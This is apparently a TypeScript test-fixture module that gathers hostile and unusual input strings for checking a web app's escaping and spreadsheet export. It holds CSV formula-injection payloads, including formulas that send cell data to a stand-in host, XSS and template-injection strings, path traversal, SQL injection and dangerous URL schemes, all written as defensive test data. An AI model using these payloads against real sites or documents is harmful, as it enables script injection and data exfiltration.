import { readFileSync } from 'node:fs';

const BLNS = new URL('../../node_modules/big-list-of-naughty-strings/blns.json', import.meta.url);

/** Whatever runs by accident leaves this on a window. */
export const CANARY = '__pwned';
const HIT = `top.${CANARY}=window.${CANARY}=1`;
/** Nobody answers there: a request to it is a failure by itself. */
const ELSEWHERE = 'hostil.invalid';

/** In the spirit of https://owasp.org/www-community/attacks/CSV_Injection */
const FORMULAS = [
  '=1+1',
  "=2+5+cmd|' /C calc'!A0",
  '+SUM(A1:A9)',
  '-1+1',
  '-3+cmd|"/C notepad"!_xlbgnm.A1',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  `=HYPERLINK("https://${ELSEWHERE}/?x="&A1,"Pulse aquí")`,
  `=IMPORTXML(CONCAT("https://${ELSEWHERE}/?v=",A2),"//a")`,
  `=IMAGE("https://${ELSEWHERE}/i.png")`,
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  "'=1+1",
  "''=1+1",
  '=',
  '+',
  '-',
  '@',
  "'",
  "''",
  "'''tres",
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  ';=1+1',
  ',=1+1',
  '";=1+1;"',
  '%0A=1+1',
  '\u0000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '=A1&"\n"&B1',
  '{=SUMA(1;2)}',
  '+52 951 ext',
  '-¿Por qué no?',
];

/** In the spirit of https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html */
export const MARKUP = [
  `<script>${HIT}</script>`,
  `</script><script>${HIT}</script>`,
  `--><script>${HIT}</script><!--`,
  `]]><script>${HIT}</script>`,
  `<![CDATA[<script>${HIT}</script>]]>`,
  `</textarea><script>${HIT}</script>`,
  `</title><script>${HIT}</script>`,
  `</style><script>${HIT}</script>`,
  `</template><img src=x onerror="${HIT}">`,
  `"><img src=x onerror="${HIT}">`,
  `'><img src=x onerror='${HIT}'>`,
  `" autofocus onfocus="${HIT}" x="`,
  `' autofocus onfocus='${HIT}' x='`,
  `\` onmouseover=\`${HIT}`,
  `<svg/onload=${HIT}>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<details open ontoggle=${HIT}>`,
  `<body onpageshow=${HIT}>`,
  `<iframe srcdoc="&lt;script&gt;${HIT}&lt;/script&gt;"></iframe>`,
  `<iframe src="javascript:${HIT}"></iframe>`,
  `<object data="data:text/html,<script>${HIT}</script>"></object>`,
  `<img src="https://${ELSEWHERE}/pixel.gif">`,
  `<link rel=stylesheet href="https://${ELSEWHERE}/x.css">`,
  `<meta http-equiv=refresh content="0;url=https://${ELSEWHERE}/">`,
  `<base href="https://${ELSEWHERE}/">`,
  `<form action="https://${ELSEWHERE}/"><input type=submit autofocus>`,
  `<style>@import "https://${ELSEWHERE}/x.css";</style>`,
  `<math><mtext></p><mglyph><style><img src=x onerror=${HIT}>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  '&amp;lt;b&amp;gt; &nbsp;&#0;&#x110000;&zwj;',
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `\${${HIT}}`,
  `{{constructor.constructor("${HIT}")()}}`,
  `<?= ${HIT} ?>`,
  '<?!= HtmlService ?>',
  '<? while (true) {} ?>',
  '<%= 7*7 %>',
  '#{7*7}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  "$& $1 $` $' $$",
  '%s %d %n %00',
  '{"json":true}',
  '["a","b"]',
  '\\',
  '\\"',
  '"',
  '""',
  '"sin cerrar',
  'a,b;c|d\te',
  'a\r\nb\nc\rd',
  '\u2028 y \u2029',
];

const CONTROLS = Array.from({ length: 32 }, (_, code) => `a${String.fromCharCode(code)}b`);

const ODD = [
  ...CONTROLS,
  'c1 \u0080\u0085\u009f\u00ad',
  'suelto \ud800 y \udfff',
  '\udc00\ud800 al revés',
  'no caracteres \ufffe\uffff\ufdd0\u{1fffe}',
  'abc\u202edef\u202c ghi',
  '\u2066aislado\u2069 \u200f\u200e\u061c',
  'familia 👨‍👩‍👧‍👦 y 🏳️‍🌈 y 👩🏽‍🚒 y 🇲🇽',
  '👁️‍🗨️',
  'Z̸̡̛a͜l̷g̀o̴',
  'e\u0301 no es \u00e9',
  '\ufb01n con ligadura ﬁ',
  'İıßŒ ǅ',
  'السلام عليكم 123 עברית',
  'العدد ١٢٣',
  '𝒯𝑒𝓍𝓉𝑜 𝕞𝕒𝕥𝕖𝕞𝕒́𝕥𝕚𝕔𝕠',
  '   espacios   ',
  '\u00a0duros\u00a0',
  '\u3000ideográfico\u3000',
  '_x000d_ y _x0041_ tal cual',
  'https://ejemplo.example/a?b=c&d=<e>#f',
  `javascript:${HIT}`,
  'data:text/html,hola',
  'file:///etc/passwd',
  'C:\\con\\aux.txt',
  '../../../etc/passwd',
  "Robert'); DROP TABLE compromisos;--",
];

/** What a spreadsheet in es_MX reads as something else. */
const LOOKS = [
  '1/2',
  '01/02/2016',
  '2016-02-01',
  '1-feb',
  '1 de febrero de 2016',
  'feb 2016',
  '12:30',
  '12:30 p.m.',
  '2016-02-01T10:00:00Z',
  '00123',
  '1E5',
  '1e-7',
  '1E400',
  '0x1F',
  '1,234.50',
  '1.234,50',
  '12345678901234567890',
  '50%',
  '50 %',
  '$1,000',
  '€5',
  '-0',
  '.5',
  '5.',
  'VERDADERO',
  'FALSO',
  'TRUE',
  'false',
  'Infinity',
  'NaN',
  'null',
  'undefined',
  '#N/A',
  '#REF!',
  '#¡VALOR!',
];

const naughty = JSON.parse(readFileSync(BLNS, 'utf8')) as string[];

/** Only what nobody sees. */
const UNSEEN = [
  ' ',
  '\t',
  '\r\n',
  '\u00a0',
  '\u3000',
  '\u200b\u200c\u200d',
  '\ufeff',
  '\u2060',
  '\u202e\u202c',
  '\u3164',
  '\u00ad',
  '\u180e',
];

const all = [...new Set([...naughty, ...FORMULAS, ...MARKUP, ...ODD, ...LOOKS, ...UNSEEN])].filter(
  (text) => text !== '',
);
const isSeen = (text: string): boolean => /[^\s\p{Cf}\u3164]/u.test(text);

/** Every text of which a person may see something. */
export const STRINGS: readonly string[] = all.filter(isSeen);
export const INVISIBLE: readonly string[] = all.filter((text) => !isSeen(text));

/** Addresses that no link may lead to. */
export const ADDRESSES: readonly string[] = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  `java\tscript:${HIT}`,
  `\u0001javascript:${HIT}`,
  `javascript://ejemplo.example/%0a${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${HIT}</script>`).toString('base64')}`,
  `vbscript:${HIT}`,
  'file:///etc/passwd',
  'blob:https://ejemplo.example/1',
  '//ejemplo.example/x',
  'https:ejemplo.example',
  `https://ejemplo.example/" onmouseover="${HIT}`,
  `https://ejemplo.example/'><script>${HIT}</script>`,
  'https://ejemplo.example/\\..\\x',
  'https://ejemplo.example/\nLocation: x',
];

export const filler = (length: number): string => 'Párrafo muy largo. '.repeat(3000).slice(0, length);
